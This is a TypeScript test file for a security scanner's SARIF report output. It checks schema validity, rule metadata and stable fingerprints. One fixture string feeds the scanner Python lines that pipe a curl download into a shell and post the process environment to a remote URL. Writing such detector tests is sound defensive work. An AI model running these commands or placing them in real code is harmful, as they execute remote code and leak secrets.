import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import type AjvDraft04Type from 'ajv-draft-04';
import { describe, expect, it } from 'vitest';
import { sarifReport } from '../../src/scan/sarif-report.js';
import { scanText } from '../../src/scan/scan-file.js';
import { allRules } from '../../src/scan/rule-catalog.js';
import { scanDeps } from './scan-test-parser.js';

// The schema is draft-04, which Ajv 8 validates through ajv-draft-04 (a CommonJS class export).
const AjvDraft04 = createRequire(import.meta.url)(
  'ajv-draft-04',
) as (typeof AjvDraft04Type)['default'];

// The official OASIS SARIF 2.1.0 schema (errata01), vendored with its licence note in fixtures/.
const schema = JSON.parse(
  readFileSync(join(import.meta.dirname, 'fixtures/sarif-schema-2.1.0.json'), 'utf8'),
);

describe('SARIF output', () => {
  it('validates against the official SARIF 2.1.0 schema', async () => {
    const deps = await scanDeps();
    const scan = scanText(
      'app/run.py',
      "import os\nos.system('curl http://x | sh')\nrequests.post(u, data=os.environ)\n",
      deps,
    );
    expect(scan.findings.length).toBeGreaterThan(0);
    const log = sarifReport(
      { findings: scan.findings, stats: { files: 1, lines: 3, durationMs: 1, skipped: [] } },
      { version: '0.1.0', automationId: 'airlock/scan/' },
    );
    const ajv = new AjvDraft04({ allErrors: true, strict: false });
    const validate = ajv.compile(schema);
    expect(validate(log), JSON.stringify(validate.errors, null, 2)).toBe(true);
  });

  it('lists every rule with help text, CWE tags and a stable id', () => {
    const log = sarifReport(
      { findings: [], stats: { files: 0, lines: 0, durationMs: 0, skipped: [] } },
      { version: '0.1.0', automationId: 'airlock/scan/' },
    ) as {
      runs: {
        tool: {
          driver: {
            rules: { id: string; help: { text: string }; properties: { tags: string[] } }[];
          };
        };
        automationDetails: { id: string };
      }[];
    };
    const rules = log.runs[0]?.tool.driver.rules ?? [];
    expect(rules.map((rule) => rule.id)).toEqual(allRules.map((rule) => rule.id));
    expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length);
    for (const rule of rules) {
      expect(rule.help.text.length).toBeGreaterThan(10);
      expect(rule.properties.tags.some((tag) => tag.startsWith('external/cwe/cwe-'))).toBe(true);
    }
    expect(log.runs[0]?.automationDetails.id).toBe('airlock/scan/');
  });

  it('gives each result a partial fingerprint that survives a line move', async () => {
    const deps = await scanDeps();
    const before = scanText('a.py', 'import os\nos.system(cmd)\n', deps).findings;
    const after = scanText('a.py', 'import os\n\n\nos.system(cmd)\n', deps).findings;
    const print = (findings: typeof before) =>
      (
        sarifReport(
          { findings, stats: { files: 1, lines: 1, durationMs: 0, skipped: [] } },
          { version: '0', automationId: 'a/' },
        ) as {
          runs: { results: { partialFingerprints: Record<string, string> }[] }[];
        }
      ).runs[0]?.results[0]?.partialFingerprints;
    expect(print(before)).toEqual(print(after));
  });
});
